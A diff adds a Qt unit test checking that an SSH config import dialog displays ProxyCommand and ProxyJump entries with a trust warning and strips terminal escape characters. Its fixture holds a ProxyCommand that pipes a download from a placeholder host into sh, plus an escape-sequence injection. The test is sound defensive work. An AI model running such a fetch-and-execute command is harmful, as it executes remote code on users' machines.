@@ -135,3 +135,49 @@ TEST(GuiSshImportDialog, UnreadableFileSaysSoAndImportsNothing)
         << f.message->text().toStdString();
     EXPECT_TRUE(f.message->text().contains(QStringLiteral("Add…")));
 }
+
+TEST(GuiSshImportDialog, ProxyCommandAndProxyJumpAreShownBeforeImporting)
+{
+    QTemporaryDir dir;
+    ASSERT_TRUE(dir.isValid());
+    const QString path = dir.filePath(QStringLiteral("ssh_config"));
+    QFile file(path);
+    ASSERT_TRUE(file.open(QIODevice::WriteOnly));
+    // The escape sequence would retitle a terminal; in a table it must not survive either.
+    file.write("Host direct\n"
+               "    HostName 10.0.0.1\n"
+               "Host piped\n"
+               "    HostName 10.0.0.2\n"
+               "    ProxyCommand sh -c 'curl -s http://example.invalid/x | sh' \x1b]0;ok\x07\n"
+               "Host jumpy\n"
+               "    HostName 10.0.0.3\n"
+               "    ProxyJump admin@bastion:2222\n");
+    file.close();
+
+    ImportFixture f({});
+    f.dialog.load(path);
+    ASSERT_EQ(f.list->topLevelItemCount(), 3);
+    EXPECT_TRUE(f.list->topLevelItem(0)->text(SshImportDialog::ColumnProxy).isEmpty());
+
+    const QTreeWidgetItem *piped = f.list->topLevelItem(1);
+    const QString command = piped->text(SshImportDialog::ColumnProxy);
+    EXPECT_EQ(command, QStringLiteral("ProxyCommand sh -c 'curl -s http://example.invalid/x | sh' "
+                                      "\uFFFD]0;ok\uFFFD"));
+    EXPECT_TRUE(piped->toolTip(SshImportDialog::ColumnProxy).contains(command))
+        << piped->toolTip(SshImportDialog::ColumnProxy).toStdString();
+    EXPECT_TRUE(piped->toolTip(SshImportDialog::ColumnProxy).contains(QStringLiteral("trust")));
+    EXPECT_EQ(f.list->topLevelItem(2)->text(SshImportDialog::ColumnProxy),
+              QStringLiteral("ProxyJump admin@bastion:2222"));
+    EXPECT_EQ(f.list->headerItem()->text(SshImportDialog::ColumnProxy),
+              QStringLiteral("Runs when connecting"));
+
+    // Said above the list as well, with how many: before anything is checked or imported.
+    EXPECT_TRUE(f.message->text().contains(QStringLiteral("ProxyCommand or ProxyJump: 2")))
+        << f.message->text().toStdString();
+    for (int i = 0; i < f.list->topLevelItemCount(); ++i) {
+        for (int column = 0; column < SshImportDialog::ColumnCount; ++column) {
+            EXPECT_FALSE(f.list->topLevelItem(i)->text(column).contains(QChar(0x1b)));
+            EXPECT_FALSE(f.list->topLevelItem(i)->toolTip(column).contains(QChar(0x1b)));
+        }
+    }
+}
